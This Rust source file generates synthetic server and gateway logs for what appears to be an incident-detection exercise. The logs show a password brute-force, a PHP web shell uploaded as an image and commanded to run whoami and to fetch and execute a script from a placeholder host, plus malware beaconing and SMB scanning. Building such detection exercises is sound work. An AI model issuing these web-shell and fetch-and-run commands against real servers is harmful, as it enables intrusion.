//! Logs of about a hundred kilobytes: a working day's ordinary lines with the attack among them, where it can be found.

use std::fmt::Write;

use ungcuu_kit::time::{MINUTE, Time};

use super::Dice;

const SECOND: i64 = MINUTE / 60;

/// How large a log is made, in bytes.
const SIZE: usize = 100 * 1024;

/// The access log of a web server: an address tries the administrator's password some hundred times, gets in, uploads a
/// file and gives it orders. Ends at `until`; `broken_in` is the moment the password was found.
pub fn break_in(broken_in: Time, until: Time) -> Vec<u8> {
    let mut lines = Lines::default();
    let mut dice = Dice::new(20_220_113);
    let pages = [
        "/",
        "/tin-tuc",
        "/tin-tuc/hop-giao-ban-thang",
        "/van-ban",
        "/van-ban/tim-kiem?so=02",
        "/thu-tuc-hanh-chinh",
        "/lich-tiep-dan",
        "/lien-he",
        "/anh/banner.jpg",
        "/css/trang.css",
        "/js/trang.js",
        "/favicon.ico",
    ];
    let browsers = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        "Mozilla/5.0 (Linux; Android 11) AppleWebKit/537.36 Mobile",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 15_4 like Mac OS X)",
    ];
    let attacker = "203.0.113.77";
    let tool = "python-requests/2.27.1";
    let hit = |lines: &mut Lines, at: Time, who: &str, what: &str, status: u64, size: u64, with: &str| {
        let stamp = at.local().strftime("%d/%b/%Y:%H:%M:%S %z");
        lines.add(at, format!("{who} - - [{stamp}] \"{what} HTTP/1.1\" {status} {size} \"-\" \"{with}\""));
    };
    for attempt in 0..160 {
        let at = broken_in.plus(-(160 - attempt) * 3 * SECOND);
        hit(&mut lines, at, attacker, "POST /quan-tri/dang-nhap", 401, 512, tool);
    }
    let orders = [
        (0, "POST /quan-tri/dang-nhap", 302, 0),
        (7, "GET /quan-tri/tong-quan", 200, 18_204),
        (31, "GET /quan-tri/thu-vien-anh", 200, 9_120),
        (64, "POST /quan-tri/thu-vien-anh/tai-len?ten=anh-he-thong.php", 200, 88),
        (79, "GET /tai-len/anh-he-thong.php?lenh=whoami", 200, 17),
        (96, "GET /tai-len/anh-he-thong.php?lenh=uname%20-a", 200, 104),
        (148, "GET /tai-len/anh-he-thong.php?lenh=wget%20http://198.51.100.23/dat-lich.sh", 200, 61),
        (171, "GET /tai-len/anh-he-thong.php?lenh=sh%20dat-lich.sh", 200, 0),
        (240, "POST /tai-len/anh-he-thong.php?ghi=/giao-dien/trang-chu.html", 200, 2),
        (266, "GET /", 200, 3_911),
    ];
    for (second, what, status, size) in orders {
        hit(&mut lines, broken_in.plus(second * SECOND), attacker, what, status, size, tool);
    }
    let mut at = until;
    while lines.size < SIZE {
        at = at.plus(-i64::try_from(dice.below(26) + 2).unwrap_or(2) * SECOND);
        let who = format!("192.0.2.{}", dice.below(250) + 1);
        let page = format!("GET {}", dice.pick(&pages));
        let (size, browser) = (dice.below(40_000) + 300, *dice.pick(&browsers));
        let status = if dice.below(40) == 0 { 404 } else { 200 };
        hit(&mut lines, at, &who, &page, status, size, browser);
    }
    lines.in_order()
}

/// The log of an office's gateway: a machine fetches a program out of a mail, asks its master what to do every minute, a
/// second machine follows, and both fall silent once the cable is out.
pub fn encryption(opened: Time, unplugged: Time) -> Vec<u8> {
    let mut lines = Lines::default();
    let mut dice = Dice::new(7_042_022);
    let sites = [
        ("motcua.demo.example", "192.0.2.20"),
        ("vanban.demo.example", "192.0.2.21"),
        ("thu.demo.example", "192.0.2.25"),
        ("bao-tinh.example", "192.0.2.80"),
        ("thoi-tiet.example", "192.0.2.81"),
        ("cap-nhat.example", "192.0.2.90"),
    ];
    let paths = ["", "ho-so", "ho-so/tra-cuu", "dang-nhap", "anh/logo.png", "tin/moi", "api/dem"];
    let pass = |lines: &mut Lines, at: Time, machine: u64, method: &str, url: &str, to: &str, size: u64, took: u64| {
        let stamp = at.local().strftime("%Y-%m-%d %H:%M:%S");
        lines.add(
            at,
            format!("{stamp} {took:>6} 10.10.12.{machine} TCP_MISS/200 {size} {method} {url} - HIER_DIRECT/{to}"),
        );
    };
    let master = "198.51.100.23";
    pass(
        &mut lines,
        opened,
        32,
        "GET",
        "http://tai-ve.thue-dientu.example/thong-bao-thue.exe",
        master,
        1_482_752,
        2_310,
    );
    pass(
        &mut lines,
        opened.plus(42 * SECOND),
        32,
        "GET",
        "http://tai-ve.thue-dientu.example/khoa-cong-khai.pem",
        master,
        1_704,
        96,
    );
    for (machine, after) in [(32_u64, MINUTE), (35, 11 * MINUTE)] {
        let mut at = opened.plus(after);
        while at < unplugged {
            pass(&mut lines, at, machine, "POST", "http://198.51.100.23/cong/bao-cao", master, 214 + dice.below(9), 41);
            at = at.plus(MINUTE + i64::try_from(dice.below(4)).unwrap_or(0) * SECOND);
        }
    }
    // The second machine looks at its neighbours before it begins.
    for neighbour in 40..64 {
        let at = opened.plus(10 * MINUTE).plus(neighbour * SECOND);
        let url = format!("http://10.10.12.{neighbour}:445/");
        pass(&mut lines, at, 35, "CONNECT", &url, &format!("10.10.12.{neighbour}"), 0, 3_000);
    }
    let mut at = unplugged.plus(30 * MINUTE);
    while lines.size < SIZE {
        at = at.plus(-i64::try_from(dice.below(22) + 1).unwrap_or(1) * SECOND);
        let (site, to) = *dice.pick(&sites);
        let url = format!("https://{site}/{}", dice.pick(&paths));
        let machine = 30 + dice.below(16);
        let silent = at > unplugged && matches!(machine, 32 | 35);
        if !silent {
            let (size, took) = (dice.below(60_000) + 200, dice.below(900) + 12);
            pass(&mut lines, at, machine, "GET", &url, to, size, took);
        }
    }
    lines.in_order()
}

/// Lines with their moments, in whatever order they were thought of.
#[derive(Default)]
struct Lines {
    lines: Vec<(Time, String)>,
    size: usize,
}

impl Lines {
    fn add(&mut self, at: Time, line: String) {
        self.size += line.len() + 1;
        self.lines.push((at, line));
    }

    fn in_order(mut self) -> Vec<u8> {
        self.lines.sort();
        let mut text = String::with_capacity(self.size);
        for (_, line) in &self.lines {
            // Writing to a string cannot fail.
            let _ = writeln!(text, "{line}");
        }
        text.into_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_log_is_large_in_order_the_same_each_time_and_shows_the_attack() {
        let at = Time::parse("15/03/2023 08:10").expect("a moment");
        let log = String::from_utf8(encryption(at, at.plus(40 * MINUTE))).expect("text");
        assert!((90_000..130_000).contains(&log.len()), "{}", log.len());
        assert!(log.contains("GET http://tai-ve.thue-dientu.example/thong-bao-thue.exe"));
        assert!(log.matches("POST http://198.51.100.23/cong/bao-cao").count() > 50);
        assert!(log.lines().map(|line| &line[..19]).is_sorted());
        assert_eq!(log.as_bytes(), encryption(at, at.plus(40 * MINUTE)));
        let log = String::from_utf8(break_in(at, at.plus(120 * MINUTE))).expect("text");
        assert_eq!(log.matches("203.0.113.77").count(), 170);
        assert!(log.find("\" 401 ").expect("tried") < log.find("dang-nhap HTTP/1.1\" 302").expect("let in"));
    }
}
